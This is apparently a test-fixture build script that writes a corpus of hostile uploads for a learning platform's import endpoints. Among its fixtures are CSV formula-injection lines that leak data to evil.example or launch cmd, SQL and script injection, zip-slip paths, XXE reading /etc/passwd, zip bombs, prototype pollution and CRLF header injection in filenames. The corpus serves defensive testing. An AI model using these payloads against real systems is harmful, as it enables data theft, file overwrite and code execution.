/**
 * Writes the small, committed files of the hostile-input corpus (deterministic: the same bytes on every
 * run). Big inputs (a 10 MB field, 100,000 columns, a 60 MB file, bombs that inflate to gigabytes, 10,001
 * entries…) are not committed: catalogue.ts makes them at test time.
 *
 *   bun test/corpus/build.ts        # rewrite the files after changing a case
 */
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { strToU8 } from "fflate";
import {
  BILLION_LAUGHS,
  patchEntry,
  SCORM12_MANIFEST,
  TINCAN_XML,
  writeRawZip,
  zipBomb,
  zipFiles,
} from "../support/zip-fixtures";

const here = import.meta.dir;
const enc = (text: string) => new TextEncoder().encode(text);

function utf16(text: string, littleEndian: boolean, bom: boolean): Uint8Array {
  const out = new Uint8Array((text.length + (bom ? 1 : 0)) * 2);
  const view = new DataView(out.buffer);
  let at = 0;
  if (bom) {
    view.setUint16(0, 0xfeff, littleEndian);
    at = 2;
  }
  for (let i = 0; i < text.length; i++, at += 2) view.setUint16(at, text.charCodeAt(i), littleEndian);
  return out;
}

const latin1 = (text: string) => Uint8Array.from(text, (ch) => ch.charCodeAt(0) & 0xff);

const UNICODE_USERS =
  "email,first_name,last_name\nzoe@example.com,Zoë,Ünal\nsoren@example.com,Søren,Ørsted\n";

/** User uploads (`user_upload`). */
export const CSV_FILES: Record<string, string | Uint8Array> = {
  "unbalanced-quote.csv": 'email,first_name\n"ann@example.com,Ann\nbob@example.com,Bob\n',
  "unbalanced-quote-late.csv":
    'email,first_name\nann@example.com,Ann\nbob@example.com,Bob\ncat@example.com,Cat\ndan@example.com,"Dan\n',
  "stray-quote-in-field.csv": 'email,first_name,last_name\nann@example.com,An"n,O"Brien\n',
  "nul-bytes.csv": "email,first_name\nann@exa\u0000mple.com,Ann\n",
  "nul-after-valid-rows.csv": `email,first_name\n${"ok@example.com,Ok\n".repeat(3)}\u0000\u0000\u0000\n`,
  "utf16le-bom.csv": utf16(UNICODE_USERS, true, true),
  "utf16be-bom.csv": utf16(UNICODE_USERS, false, true),
  "utf16le-no-bom.csv": utf16(UNICODE_USERS, true, false),
  "utf16be-no-bom.csv": utf16(UNICODE_USERS, false, false),
  "latin1.csv": latin1("email,first_name,last_name\nrene@example.com,René,Lévêque\n"),
  "windows-1252-smart-quotes.csv": Uint8Array.from([
    ...enc("email,first_name\nq@example.com,"),
    0x93,
    ...enc("Quoted"),
    0x94,
    0x0a,
  ]),
  "formula-cells.csv": [
    "email,first_name,last_name,role",
    '"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",Eve,Evil,learner',
    "+cmd|' /C calc'!A0,Eve,Evil,learner",
    "@SUM(1+1)*cmd|' /C calc'!A0,Eve,Evil,learner",
    "\"-2+3+cmd|' /C calc'!A0\",Eve,Evil,learner",
    "formula@example.com,=1+1,=cmd|'/c calc'!A1,learner",
    "",
  ].join("\n"),
  "header-only.csv": "email,first_name,last_name\n",
  "blank-lines-only.csv": "\n\n\r\n\n\r\n",
  "empty.csv": "",
  "cr-only-line-endings.csv":
    "email,first_name,last_name\rcr1@example.com,Ann,One\rcr2@example.com,Bob,Two\r",
  "crlf-line-endings.csv":
    "email,first_name,last_name\r\ncrlf1@example.com,Ann,One\r\ncrlf2@example.com,Bob,Two\r\n",
  "utf8-bom.csv": "\uFEFFemail,first_name,last_name\nbom1@example.com,Ann,One\n",
  "no-email-column.csv": "name,phone\nAnn,555-0100\n",
  "tab-separated.csv": "email\tfirst_name\nann@example.com\tAnn\n",
  "semicolon-separated.csv": "email;first_name\nann@example.com;Ann\n",
  "pipe-separated.csv": "email|first_name\nann@example.com|Ann\n",
  "used-range-separator-rows.csv":
    "email,first_name,,\r\nur1@example.com,Ann,,\r\n,,,\r\nur2@example.com,Bob,,\r\n,,,\r\n,,,\r\n",
  "png-renamed.csv": Uint8Array.from([
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00,
    0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4, 0x89,
  ]),
  "html-page.csv":
    "<!doctype html>\n<html><head><title>Login</title></head><body><form>email</form></body></html>\n",
  "only-commas.csv": ",,,\n,,,\n,,,\n",
  "quoted-newlines.csv":
    'email,first_name,last_name\r\nql1@example.com,"Ann\r\nMarie","O""Brien"\r\nql2@example.com,"Multi\nLine\nName",Two\r\nql3@example.com,"",Three\r\n',
  "unicode-names.csv":
    "email,first_name,last_name\nuni1@example.com,😀 Emoji,Name\nuni2@example.com,\u202Egnp.exe,RTL override\nuni3@example.com,Zero\u200Bwidth,Width\n",
  "sql-and-script.csv":
    'email,first_name,last_name,department\nsql1@example.com,Robert\'); DROP TABLE users;--,Tables,<script>alert(1)</script>\nsql2@example.com,"x"" OR ""1""=""1",x,\'; DELETE FROM actions; --\n',
  "whitespace-emails.csv": "email,first_name\n   ,Blank\n\t,Tab\nws-ok@example.com,Fine\n",
  "duplicate-emails.csv": `email,first_name\n${"dup@example.com,Dup\n".repeat(20)}`,
  "bad-roles.csv":
    "email,first_name,last_name,role\nr1@example.com,A,B,root\nr2@example.com,A,B,superuser\nr3@example.com,A,B,admin\nr4@example.com,A,B,\n",
  "many-groups-one-cell.csv": `email,first_name,last_name,groups\ngroups@example.com,Many,Groups,${Array.from(
    { length: 1000 },
    (_, i) => `corpus-g${i}`,
  ).join(";")}\n`,
  "duplicate-header.csv": "email,email,first_name\ndh1@example.com,other@example.com,Dup\n",
  "header-case-and-spaces.csv": "  EMAIL  ,First Name,LAST-NAME\nhc1@example.com,Ann,One\n",
  "ansi-escapes.csv":
    "email,first_name\n\u001b[31mred@example.com\u001b[0m,Red\nesc@example.com,\u001b]0;pwned\u0007Title\n",
};

/** History uploads (`history_migration`), against users h0…h9@example.com and courses HIST-1…HIST-3. */
export const HISTORY_FILES: Record<string, string> = {
  "unbalanced-quote.csv": 'email,course_code,completed_at\n"h0@example.com,HIST-1,2020-01-01\n',
  "missing-column.csv": "email,completed_at\nh0@example.com,2020-01-01\n",
  "bad-values.csv": [
    "email,course_code,completed_at,score,status",
    "h0@example.com,HIST-1,2020-01-01,90,passed",
    "h1@example.com,HIST-1,2999-01-01,90,passed",
    "h1@example.com,HIST-1,2025-02-30,90,passed",
    "h1@example.com,HIST-1,yesterday,90,passed",
    "h1@example.com,HIST-1,2020-01-02,-1,passed",
    "h1@example.com,HIST-1,2020-01-03,101,passed",
    "h1@example.com,HIST-1,2020-01-04,NaN,passed",
    "h1@example.com,HIST-1,2020-01-05,1e3,passed",
    "h1@example.com,HIST-1,2020-01-06,50,done",
    "h1@example.com,NO-SUCH-COURSE,2020-01-07,50,passed",
    "nobody@example.com,HIST-1,2020-01-08,50,passed",
    '=HYPERLINK("http://evil.example/?leak="&A1),HIST-1,2020-01-09,50,passed',
    ",,,,",
    "",
  ].join("\n"),
  "repeated-records.csv":
    "email,course_code,completed_at\nh3@example.com,HIST-2,2020-03-01\nh3@example.com,HIST-2,2020-03-01\nH3@EXAMPLE.COM,HIST-2,2020-03-01T00:00:00Z\n",
};

const HTML = "<html>lesson</html>";
const manifestWith = (code: string) =>
  SCORM12_MANIFEST.replace('identifier="SAFETY-101"', `identifier="${code}"`);
const scorm = (
  code: string,
  extra: Record<string, string | Uint8Array | [string, { os: number; attrs: number }]> = {},
) =>
  zipFiles({ "imsmanifest.xml": manifestWith(code), "index_lms.html": HTML, "other.html": HTML, ...extra });

/** Content packages (`content_upload`), one per action. */
export const PACKAGE_FILES: Record<string, Uint8Array> = {
  "valid-scorm12.zip": scorm("CORPUS-VALID"),
  "valid-xapi.zip": zipFiles({
    "tincan.xml": TINCAN_XML.replace(
      "http://example.com/courses/onboarding",
      "http://example.com/courses/corpus",
    ),
    "story_html5.html": HTML,
    "quiz.html": HTML,
  }),
  "zip-slip-dotdot.zip": scorm("CORPUS-S1", { "../../../tmp/evil.html": "pwned" }),
  "zip-slip-nested-dotdot.zip": scorm("CORPUS-S2", { "assets/../../evil.html": "pwned" }),
  "zip-slip-absolute.zip": scorm("CORPUS-S3", { "/etc/cron.d/evil": "pwned" }),
  "zip-slip-drive-letter.zip": scorm("CORPUS-S4", { "C:\\Windows\\System32\\evil.dll": "pwned" }),
  "zip-slip-backslash.zip": scorm("CORPUS-S5", { "..\\..\\evil.html": "pwned" }),
  "nul-in-entry-name.zip": writeRawZip([
    { name: "imsmanifest.xml", data: strToU8(manifestWith("CORPUS-NUL")) },
    { name: "index_lms.html\u0000.jpg", data: strToU8(HTML) },
  ]),
  "truncated.zip": scorm("CORPUS-TRUNC").slice(0, 300),
  "truncated-half.zip": (() => {
    const zip = scorm("CORPUS-HALF", { "assets/big.js": "x".repeat(5000) });
    return zip.slice(0, zip.length >> 1);
  })(),
  "encrypted.zip": patchEntry(scorm("CORPUS-ENC"), "index_lms.html", { flags: 0x1 }),
  "encrypted-strong.zip": patchEntry(scorm("CORPUS-ENC2"), "other.html", { flags: 0x41 }),
  "symlink.zip": scorm("CORPUS-LINK", {
    "assets/passwd": ["/etc/passwd", { os: 3, attrs: (0o120777 << 16) >>> 0 }],
  }),
  "billion-laughs.zip": zipFiles({ "imsmanifest.xml": BILLION_LAUGHS, "index_lms.html": HTML }),
  "xxe-external-file.zip": zipFiles({
    "imsmanifest.xml": `<?xml version="1.0"?>\n<!DOCTYPE manifest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<manifest identifier="XXE"><organizations><organization><title>&xxe;</title><item identifierref="R"/></organization></organizations><resources><resource identifier="R" href="index_lms.html"/></resources></manifest>`,
    "index_lms.html": HTML,
  }),
  "xxe-parameter-entity.zip": zipFiles({
    "imsmanifest.xml": `<?xml version="1.0"?>\n<!DOCTYPE manifest [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>\n<manifest identifier="XXE2"/>`,
    "index_lms.html": HTML,
  }),
  "tincan-entities.zip": zipFiles({
    "tincan.xml": `<?xml version="1.0"?>\n<!DOCTYPE tincan [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>\n<tincan><activities><activity id="x" type="http://adlnet.gov/expapi/activities/course"><name>&b;</name><launch>index.html</launch></activity></activities></tincan>`,
    "index.html": HTML,
  }),
  "not-a-zip.zip": enc("email,first_name\nann@example.com,Ann\n"),
  "empty.zip": new Uint8Array(0),
  "manifest-in-subfolder.zip": zipFiles({
    "course/imsmanifest.xml": manifestWith("CORPUS-SUB"),
    "course/index_lms.html": HTML,
  }),
  "no-manifest.zip": zipFiles({ "index.html": HTML, "readme.txt": "hello" }),
  "scorm11-csf.zip": zipFiles({
    "CSF.xml": '<?xml version="1.0"?>\n<ContentStructure/>\n',
    "lesson1.html": HTML,
  }),
  "manifest-cut-off.zip": zipFiles({
    "imsmanifest.xml": manifestWith("CORPUS-CUT").split("\n").slice(0, 16).join("\n"),
    "index_lms.html": HTML,
    "other.html": HTML,
  }),
  "launch-absolute-url.zip": zipFiles({
    "tincan.xml": TINCAN_XML.replace(
      "story_html5.html",
      "https://cdn.example.com/courses/onboarding/index.html",
    ),
  }),
  "duplicate-entries.zip": writeRawZip([
    { name: "imsmanifest.xml", data: strToU8(manifestWith("CORPUS-DUP")) },
    { name: "index_lms.html", data: strToU8(HTML) },
    { name: "index_lms.html", data: strToU8("<html>other</html>") },
  ]),
  "invalid-xml-manifest.zip": zipFiles({
    "imsmanifest.xml": "<manifest identifier='X'><organizations>",
    "index_lms.html": HTML,
  }),
  "missing-launch-file.zip": zipFiles({
    "imsmanifest.xml": manifestWith("CORPUS-NOLAUNCH"),
    "other.html": HTML,
  }),
  "stored-size-mismatch.zip": patchEntry(
    zipFiles({ "imsmanifest.xml": manifestWith("CORPUS-SIZE") }, 0),
    "imsmanifest.xml",
    {
      uncompressedSize: 10,
    },
  ),
  "crc-mismatch.zip": patchEntry(scorm("CORPUS-CRC"), "imsmanifest.xml", { crc32: 0xdeadbeef }),
  "zip-bomb-50mb.zip": zipBomb(50),
  "declared-3gib.zip": patchEntry(scorm("CORPUS-3G"), "other.html", { uncompressedSize: 0xc0000000 }),
};

const CRLF = "\r\n";
const part = (name: string, value: string, file?: string) =>
  `--CORPUS${CRLF}Content-Disposition: form-data; name="${name}"${file === undefined ? "" : `; filename="${file}"`}${CRLF}${
    file === undefined ? "" : `Content-Type: text/csv${CRLF}`
  }${CRLF}${value}${CRLF}`;
const multipart = (...parts: string[]) => `${parts.join("")}--CORPUS--${CRLF}`;
const BAD_CSV = "email,first_name\nnot-an-email,Bad\n";

/** Raw request bodies (`.body`: biome leaves them alone, and some are not valid anything). */
export const REQUEST_FILES: Record<string, string | Uint8Array> = {
  "json-truncated.body": '{"type":"group_enroll","params":{"group":"G",',
  "json-trailing-garbage.body": '{"type":"group_enroll","params":{}} and then some',
  "json-array.body": "[1,2,3]",
  "json-null.body": "null",
  "json-string.body": '"group_enroll"',
  "json-number-overflow.body":
    '{"type":"group_mark_complete","params":{"group":"G","course":"C","score":1e400}}',
  "json-proto-pollution.body":
    '{"type":"group_enroll","params":{"group":"G","courses":["C"],"__proto__":{"isAdmin":true}},"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
  "json-unknown-type.body": '{"type":"format_disk","params":{}}',
  "json-params-wrong-types.body":
    '{"type":"group_enroll","params":{"group":["G"],"courses":"C","dueDate":42},"notify":"yes"}',
  "json-bad-scheduled-for.body":
    '{"type":"dynamic_rule_start","params":{"group":"G","rule":{"attribute":"role","operator":"equals","value":"x"}},"scheduledFor":"tomorrow"}',
  "json-file-type.body": '{"type":"user_upload","params":{}}',
  "json-invalid-utf8.body": Uint8Array.from([
    ...enc('{"type":"group_enroll","params":{"group":"'),
    0xc3,
    0x28,
    0xff,
    ...enc('"}}'),
  ]),
  "multipart-ok.body": multipart(part("type", "user_upload"), part("file", BAD_CSV, "ok.csv")),
  "multipart-truncated.body": multipart(part("type", "user_upload"), part("file", BAD_CSV, "t.csv")).slice(
    0,
    120,
  ),
  "multipart-no-closing-boundary.body": `${part("type", "user_upload")}${part("file", BAD_CSV, "n.csv")}`,
  "multipart-no-type.body": multipart(part("file", BAD_CSV, "x.csv")),
  "multipart-unknown-type.body": multipart(part("type", "format_disk"), part("file", BAD_CSV, "x.csv")),
  "multipart-two-files.body": multipart(
    part("type", "user_upload"),
    part("file", BAD_CSV, "a.csv"),
    part("file", BAD_CSV, "b.csv"),
  ),
  "multipart-no-file.body": multipart(part("type", "user_upload")),
  "multipart-file-for-json-type.body": multipart(
    part("type", "group_enroll"),
    part("file", BAD_CSV, "x.csv"),
  ),
  "multipart-filename-crlf.body": multipart(
    part("type", "user_upload"),
    part("file", BAD_CSV, "evil\r\nSet-Cookie: session=stolen\r\nX-Injected: 1.csv"),
  ),
  "multipart-filename-quotes.body": multipart(
    part("type", "user_upload"),
    part("file", BAD_CSV, "a\\\"; filename*=UTF-8''evil.exe; x=\\\".csv"),
  ),
  "multipart-filename-path.body": multipart(
    part("type", "user_upload"),
    part("file", BAD_CSV, "../../../etc/cron.d/evil.csv"),
  ),
  "multipart-filename-windows-path.body": multipart(
    part("type", "user_upload"),
    part("file", BAD_CSV, "C:\\Users\\Public\\..\\evil.csv"),
  ),
  "multipart-filename-unicode.body": multipart(
    part("type", "user_upload"),
    part("file", BAD_CSV, "r\u00e9sum\u00e9 \u202Efdp.exe.csv"),
  ),
  "multipart-filename-percent-crlf.body": multipart(
    part("type", "user_upload"),
    part("file", BAD_CSV, "a%0d%0aSet-Cookie:%20x=1.csv"),
  ),
  "multipart-filename-long.body": multipart(
    part("type", "user_upload"),
    part("file", BAD_CSV, `${"n".repeat(5000)}.csv`),
  ),
  "form-urlencoded.body": "type=user_upload&file=x",
  "text-plain.body": "email\nann@example.com\n",
};

function write(folder: string, files: Record<string, string | Uint8Array>) {
  const dir = join(here, folder);
  mkdirSync(dir, { recursive: true });
  for (const [name, content] of Object.entries(files)) writeFileSync(join(dir, name), content);
}

if (import.meta.main) {
  write("csv", CSV_FILES);
  write("history", HISTORY_FILES);
  write("packages", PACKAGE_FILES);
  write("requests", REQUEST_FILES);
  const count = [CSV_FILES, HISTORY_FILES, PACKAGE_FILES, REQUEST_FILES].reduce(
    (n, f) => n + Object.keys(f).length,
    0,
  );
  console.log(`wrote ${count} corpus files`);
}
